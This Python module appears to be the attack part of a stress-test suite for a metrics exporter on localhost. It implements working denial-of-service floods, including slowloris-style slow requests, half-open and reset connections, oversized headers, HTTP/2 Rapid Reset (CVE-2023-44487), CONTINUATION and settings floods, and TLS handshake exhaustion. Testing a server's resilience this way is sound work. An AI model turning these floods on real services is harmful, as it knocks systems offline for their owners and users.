"""The floods. Each function attacks until it is stopped, from a process of its own, and counts what it does."""

import contextlib
import errno
import os
import random
import selectors
import socket
import ssl
import struct
import threading
import time

import http2_frames as h2

REQUEST = b"GET /metrics HTTP/1.1\r\nHost: localhost\r\n"
FAILED = (OSError, ssl.SSLError)


class Attack:
    """What the functions below share."""

    def __init__(self, plain, secure, seconds):
        self.plain, self.secure = plain, secure
        self.end = time.monotonic() + seconds
        self.counts = {}
        self.lock = threading.Lock()

    def goes_on(self):
        return time.monotonic() < self.end

    def count(self, what, number=1):
        with self.lock:
            self.counts[what] = self.counts.get(what, 0) + number

    def connect(self, buffer=None):
        connected = socket.socket()
        if buffer:
            connected.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        connected.settimeout(20)
        try:
            connected.connect(("127.0.0.1", self.plain))
        except BaseException:
            connected.close()
            raise
        self.count("connections")
        return connected

    def in_threads(self, number, body):
        def run():
            while self.goes_on():
                try:
                    body()
                except FAILED:
                    self.count("closed by the exporter")
                    time.sleep(0.01)

        threads = [threading.Thread(target=run, daemon=True) for _ in range(number)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def hold(self, number, begin, go_on=lambda connected: None, interval=1.0):
        """Keeps so many connections, and opens another for each that the exporter closes. `go_on` is called for each once per interval."""
        held = []
        while self.goes_on():
            while len(held) < number and self.goes_on():
                try:
                    held.append(begin())
                except FAILED:
                    self.count("refused")
                    break
            pause = time.monotonic() + interval
            for connected in list(held):
                try:
                    go_on(connected)
                    if is_closed(connected):
                        raise ConnectionResetError
                except FAILED:
                    self.count("closed by the exporter")
                    connected.close()
                    held.remove(connected)
            time.sleep(max(0, min(pause, self.end) - time.monotonic()))
        for connected in held:
            connected.close()


def is_closed(connected):
    """Whether the other side has ended the connection, without reading from it."""
    plain = connected if not isinstance(connected, ssl.SSLSocket) else socket.socket(fileno=os.dup(connected.fileno()))
    try:
        plain.setblocking(False)
        return plain.recv(1, socket.MSG_PEEK) == b""
    except BlockingIOError:
        return False
    except OSError as error:
        return error.errno == errno.ECONNRESET
    finally:
        if plain is not connected:
            plain.close()
        connected.settimeout(20)


def scrapers(attack):
    """500 scrapers, each with a connection of its own, that ask again as soon as they are answered."""
    request = REQUEST + b"Accept-Encoding: gzip\r\n\r\n"
    chosen = selectors.DefaultSelector()
    state = {}
    for _ in range(500):
        connected = attack.connect()
        connected.sendall(request)
        chosen.register(connected, selectors.EVENT_READ)
        state[connected] = b""
    while attack.goes_on():
        for key, _ in chosen.select(1):
            connected = key.fileobj
            try:
                data = state[connected] + connected.recv(1 << 20)
                head, found, rest = data.partition(b"\r\n\r\n")
                if found:
                    length = int(head.lower().split(b"content-length: ")[1].split(b"\r\n")[0])
                    if len(rest) >= length:
                        attack.count(f"responses {head.split(b' ')[1].decode()}")
                        connected.sendall(request)
                        data = b""
                state[connected] = data
            except FAILED:
                attack.count("closed by the exporter")
                chosen.unregister(connected)
                connected.close()
                del state[connected]
        while len(state) < 500 and attack.goes_on():
            connected = attack.connect()
            connected.sendall(request)
            chosen.register(connected, selectors.EVENT_READ)
            state[connected] = b""
    for connected in state:
        connected.close()


def slow_readers(attack):
    """1,000 clients that ask for the metrics without compression and read 16 bytes a second."""

    def begin():
        connected = attack.connect(2048)
        connected.sendall(REQUEST + b"\r\n")
        return connected

    attack.hold(1000, begin, lambda connected: connected.recv(16))


def slow_requests(attack):
    """1,000 clients that send one byte of a request a second."""

    def begin():
        connected = attack.connect()
        connected.sendall(b"GET /metrics HTTP/1.1\r\nX: ")
        return connected

    attack.hold(1000, begin, lambda connected: connected.sendall(b"x"))


def half_open(attack):
    """2,000 connections, of which a third are silent, a third send half a request, and a third are ended on one side only."""

    def begin():
        connected = attack.connect()
        kind = random.randrange(3)
        if kind == 1:
            connected.sendall(REQUEST)
        if kind == 2:
            connected.sendall(REQUEST + b"\r\n")
            connected.shutdown(socket.SHUT_WR)
        return connected

    attack.hold(2000, begin)


def connections(attack):
    """Connections that are opened, and reset at once or after half a request."""

    def body():
        connected = attack.connect()
        if random.randrange(2):
            connected.sendall(REQUEST)
        connected.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        connected.close()

    attack.in_threads(16, body)


def oversized_headers(attack):
    """64 clients that send a head without end: one field, or many, or a target."""

    def body():
        with contextlib.closing(attack.connect()) as connected:
            kind = random.randrange(3)
            connected.sendall(b"GET /" if kind == 0 else REQUEST + (b"X: " if kind == 1 else b""))
            piece = b"x" * 65_536 if kind < 2 else b"X-Name: value\r\n" * 4096
            while attack.goes_on():
                connected.sendall(piece)
                attack.count("bytes", len(piece))

    attack.in_threads(64, body)


def pipelining(attack):
    """64 clients that send one request after the other and read nothing."""

    def body():
        with contextlib.closing(attack.connect(4096)) as connected:
            connected.settimeout(1)
            while attack.goes_on():
                try:
                    connected.sendall((REQUEST + b"\r\n") * 100)
                    attack.count("requests", 100)
                except TimeoutError:
                    # The exporter reads no more, as it should.
                    time.sleep(0.1)
                    if is_closed(connected):
                        return attack.count("closed by the exporter")

    attack.in_threads(64, body)


def zero_windows(attack):
    """600 HTTP/2 connections with eight requests each, for whose responses they open no window."""

    def begin():
        connected = h2.connection(attack.secure, initial_window_size=0)
        attack.count("connections")
        connected.sendall(b"".join(h2.get(stream) for stream in range(1, 17, 2)))
        return connected

    attack.hold(600, begin, lambda connected: connected.sendall(h2.frame(h2.PING, 0, bytes(8))))


def rapid_resets(attack):
    """16 HTTP/2 clients that cancel each request at once (CVE-2023-44487)."""

    def body():
        with contextlib.closing(h2.connection(attack.secure)) as connected:
            attack.count("connections")
            stream = 1
            while attack.goes_on() and stream < 1 << 30:
                connected.sendall(b"".join(
                    h2.get(number) + h2.frame(h2.RST_STREAM, number, b"\x00\x00\x00\x08") for number in range(stream, stream + 200, 2)))
                attack.count("requests", 100)
                stream += 200
                if is_closed(connected):
                    return attack.count("closed by the exporter")

    attack.in_threads(16, body)


def continuations(attack):
    """16 HTTP/2 clients with header fields without end in CONTINUATION frames."""

    def body():
        with contextlib.closing(h2.connection(attack.secure)) as connected:
            attack.count("connections")
            connected.sendall(h2.frame(h2.HEADERS, 1, h2.request(), h2.END_STREAM))
            field = h2.literal(b"x" * 20, b"y" * 100)
            while attack.goes_on():
                connected.sendall(h2.frame(h2.CONTINUATION, 1, field * 100) * 4)
                attack.count("bytes", 4 * 100 * len(field))
                if is_closed(connected):
                    return attack.count("closed by the exporter")

    attack.in_threads(16, body)


def settings_flood(attack):
    """16 HTTP/2 clients that send settings and pings, and read none of the acknowledgements."""

    def body():
        with contextlib.closing(h2.connection(attack.secure)) as connected:
            attack.count("connections")
            connected.settimeout(1)
            while attack.goes_on():
                try:
                    connected.sendall((h2.settings() + h2.frame(h2.PING, 0, bytes(8))) * 500)
                    attack.count("frames", 1000)
                except TimeoutError:
                    # What is left of it cannot be sent any more.
                    return attack.count("no longer read by the exporter")
                if is_closed(connected):
                    return attack.count("closed by the exporter")

    attack.in_threads(16, body)


def handshakes(attack):
    """Eight clients that make one TLS handshake after the other, and 500 that begin one and stop."""

    def silent():
        connected = socket.create_connection(("127.0.0.1", attack.secure), 20)
        attack.count("unfinished")
        # The first bytes of a ClientHello of 512 bytes.
        connected.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
        return connected

    def body():
        h2.secured(attack.secure, protocols=("http/1.1",)).close()
        attack.count("handshakes")

    threading.Thread(target=attack.hold, args=(500, silent), daemon=True).start()
    attack.in_threads(8, body)


# In the order of the document.
FLOODS = [
    scrapers, slow_readers, slow_requests, half_open, connections, oversized_headers, pipelining, zero_windows, rapid_resets, continuations,
    settings_flood, handshakes,
]
